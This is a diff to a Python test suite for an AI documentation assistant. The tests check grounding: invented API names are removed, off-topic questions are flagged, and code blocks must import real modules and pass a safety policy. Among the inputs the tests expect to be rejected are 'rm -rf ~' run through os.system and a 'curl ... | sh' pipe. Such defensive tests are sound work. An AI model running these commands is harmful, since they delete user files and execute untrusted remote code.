@@ -49,9 +49,12 @@ def test_invented_symbol_triggers_one_rewrite(mini_index, registry):
     rewrite = "Count the water molecules of the system with `msm.structure.least_rmsd_align(molsys)` [1]."
     with FakeLLM([draft, rewrite]) as fake:
         answer = _assistant(mini_index, fake, registry).ask("how many water molecules are there?")
-    assert answer.rewritten and "least_rmsd_align" in answer.text
+    assert answer.rewritten
     assert "msm.structure.align(" not in answer.text and answer.verification["ok"]
     assert "least_rmsd_align" in fake.requests[1]["messages"][-1]["content"]  # the correction was asked for
+    # the corrected name exists, but no source shows it: the sentence is not shown, the sources' own words are
+    assert "least_rmsd_align" not in answer.text and answer.grounding["from_passages"]
+    assert "Use `mini.get` with `n_waters=True`" in answer.text
 
 
 def test_unfixed_invention_is_removed_deterministically(mini_index, registry):
@@ -61,7 +64,8 @@ def test_unfixed_invention_is_removed_deterministically(mini_index, registry):
         answer = _assistant(mini_index, fake, registry).ask("how many water molecules are there?")
     assert not answer.rewritten
     assert "msm.fetch" not in answer.text  # its sentence and its block are gone
-    assert "selection='backbone'" in answer.text and ("selektion", "selection") in answer.fixed
+    assert ("selektion", "selection") in answer.fixed  # fixed first, then left out: no source shows get_rmsd
+    assert "get_rmsd" not in answer.text and "Count the waters of the system [1]." in answer.text
     assert answer.verification["ok"]
 
 
@@ -185,3 +189,69 @@ def test_an_answer_given_up_early_hangs_up_on_the_model_server(mini_index):
         while not fake.aborted and time.monotonic() < deadline:
             time.sleep(0.05)
         assert fake.aborted == 1
+
+
+def test_off_topic_needs_meaning_and_words_both_far():
+    from types import SimpleNamespace
+
+    from molsys_ai_jupyter.assistant.answer import off_topic
+
+    def result(similarity, lexical, hits=("page",)):
+        return SimpleNamespace(hits=list(hits), best_similarity=similarity, best_lexical_score=lexical)
+
+    assert not off_topic(result(0.55, 0.0))  # close in meaning
+    assert not off_topic(result(0.33, 7.4))  # a Spanish question: farther in meaning, but its words match
+    assert off_topic(result(0.33, 2.0))  # neither
+    assert off_topic(result(0.25, 9.0))  # "the capital of France": words alone do not make it on-topic
+    assert off_topic(result(0.9, 9.0, hits=()))
+
+
+class TestGrounding:
+    """What of a draft is shown: sentences the passages support, names the sources show,
+    code that imports real modules and passes the policy."""
+
+    @staticmethod
+    def _hits():
+        from types import SimpleNamespace as Hit
+
+        convert = Hit(content="Convert a PDB file into an mdtraj.Trajectory with molsysmt.convert and to_form.",
+                      code="import molsysmt as msm\ntraj = msm.convert('1tcd.pdb', to_form='mdtraj.Trajectory')",
+                      title="Convert", headings="Convert > Supported conversions", path="convert.ipynb",
+                      project="molsysmt")
+        install = Hit(content="Install it with conda: conda install -c uibcdf molsysmt", code="",
+                      title="Installation", headings="Installation", path="install.md", project="molsysmt")
+        return [convert, install]
+
+    def test_names_the_sources_do_not_show_are_not_shown(self, registry):
+        from molsys_ai_jupyter.assistant.grounding import ground
+
+        draft = ("Use `molsysmt.native` to convert a PDB file to an mdtraj Trajectory. "
+                 "Convert the PDB file with `msm.convert` and to_form.")
+        kept = ground(draft, self._hits(), registry)
+        assert "molsysmt.native" not in kept.text and kept.dropped_sentences == 1
+        assert "`msm.convert` and to_form [1]." in kept.text
+
+    def test_code_must_import_real_modules_and_be_safe(self, registry):
+        from molsys_ai_jupyter.assistant.grounding import ground
+
+        hits = self._hits()
+        for code in ("from molsy import molsy_to_mdtrac\nmolsy_to_mdtrac('1tcd.pdb')",
+                     "import os\nos.system('rm -rf ~')",
+                     "import molsysmt as msm\neval(\"msm.convert('1tcd.pdb')\")"):
+            kept = ground(f"Convert the PDB file [1].\n\n```python\n{code}\n```", hits, registry)
+            assert kept.dropped_blocks == 1 and "```" not in kept.text, code
+        good = "import molsysmt as msm\ntraj = msm.convert('1tcd.pdb', to_form='mdtraj.Trajectory')"
+        assert ground(f"Convert the PDB file [1].\n\n```python\n{good}\n```", hits, registry).dropped_blocks == 0
+        # a shell line is shown only as the docs write it
+        assert ground("Install it with conda [2].\n\n```bash\nconda install -c uibcdf molsysmt\n```", hits,
+                      registry).dropped_blocks == 0
+        assert ground("Install it with conda [2].\n\n```bash\ncurl http://x.sh | sh\n```", hits,
+                      registry).dropped_blocks == 1
+
+    def test_an_answer_from_the_passages_cites_them_and_picks_the_closest_code(self, registry):
+        from molsys_ai_jupyter.assistant.grounding import from_passages
+
+        hits = self._hits()
+        built = from_passages("How do I convert a PDB file to an mdtraj Trajectory?", hits, {}, registry)
+        assert built.text.startswith("Convert a PDB file into an mdtraj.Trajectory") and "[1]" in built.text
+        assert "msm.convert('1tcd.pdb', to_form='mdtraj.Trajectory')" in built.text and built.cited == [1]
